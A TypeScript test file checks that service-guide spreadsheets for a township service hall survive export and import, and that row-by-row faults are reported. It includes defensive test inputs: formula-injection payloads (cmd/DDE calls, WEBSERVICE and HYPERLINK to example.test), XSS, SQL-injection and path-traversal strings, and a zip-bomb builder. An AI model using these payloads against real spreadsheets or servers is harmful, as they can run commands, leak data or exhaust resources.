/** Service guides as spreadsheets: out and in again the same, every fault by its row, nothing a spreadsheet would run. */
import fc from 'fast-check'
import writeXlsx, { type SheetData } from 'write-excel-file/node'
import { describe, expect, test } from 'vitest'
import { itemKinds, limitDays, paperKinds } from '#shared/domain/kinds.ts'
import { Item } from '#shared/domain/setup/guide.ts'
import type { GuidesAnswer } from '#shared/protocol/setupFiles.ts'
import { fromCell, fromLines, toCell, toLines } from '../../server/guides/cells.ts'
import { itemColumns, materialColumns } from '../../server/guides/columns.ts'
import { type Published, readGuides } from '../../server/guides/readGuides.ts'
import { tablesOf } from '../../server/guides/tables.ts'
import { writeGuidesCsv, writeGuidesXlsx } from '../../server/guides/writeGuides.ts'
import { townshipPeople, townshipSetup } from '../../server/templates/township.ts'

const town = townshipSetup({ hallName: '清河镇便民服务中心', people: townshipPeople })
const bare: Published = { ...town, items: [] }
const asXlsx = (items: readonly Item[]): Promise<Buffer> => writeGuidesXlsx(tablesOf(items, town), town)
const asCsv = (items: readonly Item[]): Buffer => Buffer.from(writeGuidesCsv(tablesOf(items, town)))

/** A workbook as somebody might type it: headings and cells as they are given. */
const typed = (sheets: Readonly<Record<string, SheetData>>): Promise<Buffer> =>
  writeXlsx(Object.entries(sheets).map(([sheet, data]) => ({ sheet, data }))).toBuffer()
const service = town.services[0]!.name['zh-CN']
const unit = town.units[0]!.name['zh-CN']

const said = ({ errors }: GuidesAnswer): string[] =>
  errors.map(({ sheet, row, column, says, value }) => `${sheet} ${row} ${column} ${says} ${value}`.trim())

/** Sentences as people write them, and as they should not. */
const someText = (maxLength: number) =>
  fc
    .oneof(
      fc.string({ maxLength }),
      fc.string({ unit: 'grapheme', maxLength: Math.floor(maxLength / 4) }),
      fc.constantFrom(
        '=1+1',
        '＝x',
        "'=2",
        '@a',
        '-',
        '/',
        '\\n',
        'a\nb',
        '"',
        'a,b',
        '<b>&amp;',
        '中文 与 English',
        '_x000D_',
        '__proto__',
        'toString',
      ),
    )
    .map((text) => fromCell(toCell(text.slice(0, maxLength))))
    .filter((text) => text !== '')
const someSaid = (max = 60) => fc.record({ 'zh-CN': someText(max), en: someText(max) }, { requiredKeys: ['zh-CN'] })
const someLimit = fc.record({ days: fc.integer({ min: 1, max: 400 }), of: fc.constantFrom(...limitDays) })
const somePhone = fc.constantFrom('0537-1234567', '+86 537 1234567', '(0537) 12345', '12345', '-12345-')
const someDate = fc.constantFrom('2026-01-01', '2024-02-29', '2025-12-31')
const optional = <T>(one: fc.Arbitrary<T>) => fc.option(one, { nil: undefined })
const withoutNothing = (value: object): unknown => JSON.parse(JSON.stringify(value)) as unknown

const someMaterial = fc.record({
  name: someSaid(),
  kind: fc.constantFrom(...paperKinds),
  count: fc.integer({ min: 1, max: 20 }),
  when: optional(someSaid()),
  form: optional(someSaid()),
  issuer: optional(someSaid()),
  howToGet: optional(someSaid()),
  basis: optional(someText(80)),
  byPledge: fc.boolean(),
})
const someItem = fc
  .record({
    code: optional(someText(30)),
    service: fc.constantFrom(...town.services.map(({ id }) => id)),
    name: someSaid(),
    kind: fc.constantFrom(...itemKinds.filter((kind) => kind !== 'promised')),
    organ: optional(fc.constantFrom(...town.units.map(({ id }) => id))),
    edition: optional(someDate),
    basis: fc.array(someText(60), { maxLength: 3 }),
    conditions: fc.array(someSaid(), { maxLength: 3 }),
    procedure: fc.array(someSaid(), { maxLength: 3 }),
    materials: fc.array(someMaterial, { maxLength: 4 }),
    statutory: optional(someLimit),
    fee: optional(fc.record({ standard: someSaid(), basis: optional(someText(60)) })),
    notHandled: fc.array(fc.record({ case: someSaid(), basis: optional(someText(60)) }), { maxLength: 3 }),
    result: optional(someSaid()),
    enquiryPhone: optional(somePhone),
    supervisionPhone: optional(somePhone),
  })
  .map((item) => ({ ...item, materials: item.materials.map((one, at) => ({ ...one, id: `paper-${at}` })) }))
const someItems = fc
  .array(someItem, { minLength: 1, maxLength: 4 })
  .map((items) => items.map((item, at) => Item.parse(withoutNothing({ ...item, id: `item-${at}` }))))

describe('out and in again', () => {
  test('the township’s guides, as a spreadsheet and as text', async () => {
    for (const file of [await asXlsx(town.items), asCsv(town.items)]) {
      const read = await readGuides(file, bare)
      expect(read.errors).toEqual([])
      expect(read.items).toEqual(town.items)
      expect(read.summary).toEqual({ added: town.items.length, changed: 0, same: 0, kept: 0 })
    }
  })

  test('any items whatever, as a spreadsheet and as text', { timeout: 120_000 }, async () => {
    await fc.assert(
      fc.asyncProperty(someItems, async (items) => {
        for (const file of [await asXlsx(items), asCsv(items)]) {
          const read = await readGuides(file, bare)
          expect(said(read)).toEqual([])
          expect(read.items).toEqual(items)
        }
      }),
      { numRuns: 40 },
    )
  })

  test('says what is new, changed, the same, and not in the file', async () => {
    const [first, second, third] = town.items as [Item, Item, Item]
    const read = await readGuides(
      await asXlsx([first, { ...second, code: 'X1' }, { ...third, id: 'fresh' as Item['id'] }]),
      town,
    )
    expect(read.summary).toEqual({ added: 1, changed: 1, same: 1, kept: town.items.length - 2 })
  })

  test('text from a Chinese Excel is understood in its own encoding', async () => {
    const { default: iconv } = await import('iconv-lite')
    const plain = writeGuidesCsv(tablesOf(town.items.slice(0, 5), town))
      .slice(1)
      .replace(/[’“”—·]/g, '')
    const read = await readGuides(iconv.encode(plain, 'gb18030'), bare)
    expect(said(read)).toEqual([])
    expect(read.items.map(({ name }) => name['zh-CN'])).toEqual(town.items.slice(0, 5).map(({ name }) => name['zh-CN']))
  })

  test('three hundred guides are read in a moment', async () => {
    const many = Array.from({ length: 300 }, (_, n) => ({
      ...town.items[n % town.items.length]!,
      id: `item-${n}` as Item['id'],
    }))
    const file = await asXlsx(many)
    const began = performance.now()
    const read = await readGuides(file, bare)
    expect(read.items).toHaveLength(300)
    expect(performance.now() - began).toBeLessThan(5_000)
  })
})

describe('as people fill it in', () => {
  test('English headings, no ids, loose words: understood', async () => {
    const read = await readGuides(
      await typed({
        Items: [
          ['Name', ' service ', 'Kind', 'promised limit', 'In force from', 'Conditions', 'Conditions in English'],
          ['停车证办理', service, 'promised by a date', '５', '2026/3/1', '有车\n有驾照', 'A car\n/'],
        ],
        papers: [
          ['Item name', 'Paper', 'Original or copy', 'Copies', 'Pledge accepted'],
          ['停车证办理', '行驶证', 'Original and copy', '2 份', 'yes'],
          ['停车证办理', '申请表', '当场填写', 1, true],
        ],
      }),
      bare,
    )
    expect(said(read)).toEqual([])
    expect(read.items).toMatchObject([
      {
        name: { 'zh-CN': '停车证办理' },
        service: town.services[0]!.id,
        kind: 'promised',
        promised: { days: 5, of: 'working' },
        edition: '2026-03-01',
        conditions: [{ 'zh-CN': '有车', en: 'A car' }, { 'zh-CN': '有驾照' }],
        materials: [
          { name: { 'zh-CN': '行驶证' }, kind: 'original-and-copy', count: 2, byPledge: true },
          { name: { 'zh-CN': '申请表' }, kind: 'filled-here', count: 1, byPledge: true },
        ],
      },
    ])
  })

  test('a file without ids read twice names the same items and papers', async () => {
    const file = await typed({
      事项: [
        ['事项名称', '取号事项'],
        ['停车证办理', service],
      ],
      材料: [
        ['事项名称', '材料名称'],
        ['停车证办理', '行驶证'],
      ],
    })
    const once = await readGuides(file, bare)
    const again = await readGuides(file, { ...town, items: [...once.items] })
    expect(again.summary).toEqual({ added: 0, changed: 0, same: 1, kept: 0 })
  })

  test('a column that is not in the file leaves what was there; so does a missing sheet of papers', async () => {
    const [first] = town.items as [Item]
    const read = await readGuides(
      await typed({
        事项: [
          ['事项编号', '事项名称', '取号事项'],
          [first.id, '新名字', service],
        ],
      }),
      town,
    )
    expect(said(read)).toEqual([])
    expect(read.items[0]).toEqual({
      ...first,
      service: town.services[0]!.id,
      name: { ...first.name, 'zh-CN': '新名字' },
    })
  })

  test('empty rows between the others are no rows, and the count of rows stays the spreadsheet’s', async () => {
    const read = await readGuides(
      await typed({
        事项: [
          ['事项名称', '取号事项'],
          ['', ''],
          ['停车证办理', service],
          ['   ', ''],
          ['甲', '没有'],
        ],
      }),
      bare,
    )
    expect(said(read)).toEqual(['items 5 取号事项 unknown-service 没有'])
  })
})

/** One fault in otherwise sound rows: what is typed, and what is said. */
const rows: readonly (readonly [string, Readonly<Record<string, string>>, string])[] = [
  ['no name', { 事项名称: '' }, 'items 2 事项名称 empty'],
  ['no service', { 取号事项: '' }, 'items 2 取号事项 service-missing'],
  ['an unknown service', { 取号事项: '没有' }, 'items 2 取号事项 unknown-service 没有'],
  ['an unknown kind', { 办件类型: '快办' }, 'items 2 办件类型 unknown-word 快办'],
  ['an unknown organ', { 实施机关: '没有' }, 'items 2 实施机关 unknown-unit 没有'],
  ['a date in words', { 生效日期: '元旦' }, 'items 2 生效日期 not-a-date 元旦'],
  ['a date that is no day', { 生效日期: '2026-02-30' }, 'items 2 生效日期 not-a-date 2026-02-30'],
  ['days of no kind', { 承诺时限: '5 日' }, 'items 2 承诺时限 unknown-word 5 日'],
  ['too many days', { 承诺时限: '500' }, 'items 2 承诺时限 at-most 400'],
  ['no days', { 法定时限: '0' }, 'items 2 法定时限 at-least 1'],
  ['a promise without a promise', { 办件类型: '承诺件' }, 'items 2 承诺时限 promise-missing 停车证办理'],
  ['a promise too long', { 法定时限: '5', 承诺时限: '6' }, 'items 2 承诺时限 promise-too-long 6'],
  ['a phone in words', { 咨询电话: '总机' }, 'items 2 咨询电话 format 总机'],
  ['a name too long', { 事项名称: '长'.repeat(121) }, 'items 2 事项名称 too-long 120'],
  ['too many conditions', { 办理条件: '一\n'.repeat(13) }, 'items 2 办理条件 too-many 12'],
  ['lines that differ', { 办理流程: '一\n二', '办理流程（英文）': 'One' }, 'items 2 办理流程（英文） lines-differ'],
  ['a fee in English only', { '收费标准（英文）': '5 yuan' }, 'items 2 收费标准 empty'],
  ['an id with a space', { 事项编号: 'a b' }, 'items 2 事项编号 format a b'],
]
const papers: readonly (readonly [string, Readonly<Record<string, string>>, string])[] = [
  ['no name of a paper', { 材料名称: '' }, 'materials 2 材料名称 empty'],
  ['a paper of no item', { 事项名称: '没有' }, 'materials 2 事项名称 unknown-item 没有'],
  ['a paper of nothing', { 事项名称: '' }, 'materials 2 事项名称 empty'],
  ['an unknown kind of paper', { 材料类型: '传真' }, 'materials 2 材料类型 unknown-word 传真'],
  ['copies in words', { 份数: '若干' }, 'materials 2 份数 number 若干'],
  ['half a copy', { 份数: '1.5' }, 'materials 2 份数 whole 1.5'],
  ['too many copies', { 份数: '21' }, 'materials 2 份数 at-most 20'],
  ['neither yes nor no', { 可告知承诺: '也许' }, 'materials 2 可告知承诺 unknown-word 也许'],
]
const sheet = (columns: readonly { readonly zh: string }[], given: Readonly<Record<string, string>>): SheetData => {
  const used = columns.map(({ zh }) => zh).filter((zh) => given[zh] !== undefined)
  return [used, used.map((zh) => given[zh] ?? '')]
}
const sound = { 事项名称: '停车证办理', 取号事项: service }
const soundPaper = { 事项名称: '停车证办理', 材料名称: '行驶证' }

describe('every fault by its row and column, and nothing comes in', () => {
  test.each(rows)('%s', async (_, change, sentence) => {
    const read = await readGuides(await typed({ 事项: sheet(itemColumns, { ...sound, ...change }) }), bare)
    expect(said(read)).toEqual([sentence])
    expect(read.items).toEqual([])
  })

  test.each(papers)('%s', async (_, change, sentence) => {
    const read = await readGuides(
      await typed({ 事项: sheet(itemColumns, sound), 材料: sheet(materialColumns, { ...soundPaper, ...change }) }),
      bare,
    )
    expect(said(read)).toEqual([sentence])
    expect(read.items).toEqual([])
  })

  test('faults of many rows are all told, items before papers', async () => {
    const read = await readGuides(
      await typed({
        材料: [
          ['事项名称', '材料名称', '份数'],
          ['甲', '身份证', '两'],
          ['乙', '照片', '1'],
        ],
        事项: [
          ['事项名称', '取号事项', '实施机关'],
          ['甲', service, unit],
          ['甲', service, ''],
          ['', '没有', ''],
        ],
      }),
      bare,
    )
    expect(said(read)).toEqual([
      'items 3 事项名称 same-id 甲',
      'items 4 取号事项 unknown-service 没有',
      'items 4 事项名称 empty',
      'materials 2 事项名称 two-items 甲',
      'materials 3 事项名称 unknown-item 乙',
    ])
  })

  test('columns nobody knows, columns twice and columns missing', async () => {
    const read = await readGuides(
      await typed({
        事项: [
          ['事项名称', '备注', '事项名称'],
          ['甲', '', ''],
        ],
      }),
      bare,
    )
    expect(said(read)).toEqual([
      'items 1  unknown-column 备注',
      'items 1  same-column 事项名称',
      'items 1  no-column 取号事项',
    ])
  })
})

/** Beginnings a spreadsheet takes for a formula, and what is built with them. */
const formulas = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.test/?x="&A1,"点我")',
  '=WEBSERVICE("http://example.test")',
  '=DDE("cmd";"/C calc";"x")',
  '=IMPORTXML(CONCAT("http://example.test",A1),"//a")',
  '+1+1',
  "+cmd|' /C calc'!A0",
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '@1',
  "'=1+1",
  "''=1+1",
  '=',
  '-',
  '=1+1\n=2+2',
  '="a"',
  '=A1,B1',
  '-；=1',
]
/** Texts that break files rather than spreadsheets. */
const nasty = [
  '"',
  '""',
  '","',
  'a"b,c\nd',
  '<script>alert(1)</script>',
  '<![CDATA[x]]>',
  ']]>',
  '&lt;&amp;&#10;',
  '</t></si>',
  '{{7*7}}',
  '${7*7}',
  '../../etc/passwd',
  "'; DROP TABLE facts; --",
  '\u200b零宽',
  '\u202e反过来',
  '𠮷野家 👨‍👩‍👧',
  'é',
  '\\',
  '\\n',
  'null',
]

describe('forty nasty texts', () => {
  test('are forty', () => expect(new Set([...formulas, ...nasty]).size).toBe(40))

  test.each([...formulas, ...nasty])('%j comes back as it was, and never begins like a formula', async (text) => {
    const item = Item.parse({
      ...town.items[0],
      name: { 'zh-CN': text },
      basis: [text, 'b'],
      conditions: [{ 'zh-CN': text, en: text }, { 'zh-CN': 'b' }],
      materials: [{ id: 'p', name: { 'zh-CN': text }, howToGet: { 'zh-CN': text } }],
    })
    const xlsx = await asXlsx([item])
    const csv = asCsv([item])
    expect((await readGuides(xlsx, bare)).items).toEqual([item])
    expect((await readGuides(csv, bare)).items).toEqual([item])
    const cells = [...csv.toString().matchAll(/"((?:[^"]|"")*)"/g)].map(([, cell = '']) => cell)
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([])
  })

  test('control characters, line ends of other machines and halves of characters are left out or made plain', () => {
    expect(toCell('a\u0000b\u0007c\ud800d\r\ne\rf')).toBe('abcd\ne\nf')
    expect([toCell('\t=1'), fromCell('\t=1')]).toEqual(["'\t=1", '=1'])
  })

  test('lists keep their holes', () => {
    fc.assert(
      fc.property(fc.array(fc.option(someText(20), { nil: undefined }), { minLength: 1, maxLength: 5 }), (texts) => {
        const read = fromLines(toLines(texts))
        expect(read).toEqual(texts.every((text) => text === undefined) ? [] : texts)
      }),
    )
  })
})

describe('files that are none', () => {
  /** A zip of one entry whose directory claims a size it does not have. */
  const bomb = async (): Promise<Buffer> => {
    const { deflateRawSync } = await import('node:zlib')
    const packed = deflateRawSync(Buffer.alloc(64_000_000))
    const name = Buffer.from('xl/sharedStrings.xml')
    const local = Buffer.alloc(30)
    local.writeUInt32LE(0x04034b50, 0)
    local.writeUInt16LE(8, 8)
    local.writeUInt16LE(name.length, 26)
    const entry = Buffer.alloc(46)
    entry.writeUInt32LE(0x02014b50, 0)
    entry.writeUInt16LE(8, 10)
    entry.writeUInt32LE(packed.length, 20)
    entry.writeUInt32LE(10, 24)
    entry.writeUInt16LE(name.length, 28)
    const before = Buffer.concat([local, name, packed])
    const end = Buffer.alloc(22)
    end.writeUInt32LE(0x06054b50, 0)
    end.writeUInt16LE(1, 8)
    end.writeUInt16LE(1, 10)
    end.writeUInt32LE(46 + name.length, 12)
    end.writeUInt32LE(before.length, 16)
    return Buffer.concat([before, entry, name, end])
  }

  test.each<readonly [string, () => Promise<Buffer> | Buffer, string]>([
    ['nothing', () => Buffer.alloc(0), 'file 0  no-sheet'],
    ['a sentence', () => Buffer.from('您好'), 'file 0  no-sheet'],
    ['a picture', () => Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'), 'file 0  not-a-sheet'],
    ['half a spreadsheet', async () => (await asXlsx(town.items)).subarray(0, 4000), 'file 0  not-a-sheet'],
    ['a zip of something else', () => Buffer.from('504b0304'.padEnd(120, '0'), 'hex'), 'file 0  not-a-sheet'],
    ['a workbook of other sheets', () => typed({ 工资: [['姓名'], ['王芳']] }), 'file 0  no-sheet'],
    ['a zip bomb', bomb, 'file 0  too-large'],
  ])('%s', async (_, file, sentence) => {
    const read = await readGuides(await file(), bare)
    expect(said(read)).toEqual([sentence])
    expect(read.items).toEqual([])
  })

  test('any bytes at all are answered', async () => {
    await fc.assert(
      fc.asyncProperty(fc.uint8Array({ maxLength: 400 }), fc.boolean(), async (bytes, asZip) => {
        const file = Buffer.concat([asZip ? Buffer.from('504b0304', 'hex') : Buffer.alloc(0), bytes])
        expect((await readGuides(file, bare)).errors.length).toBeGreaterThan(0)
      }),
      { numRuns: 100 },
    )
  })
})
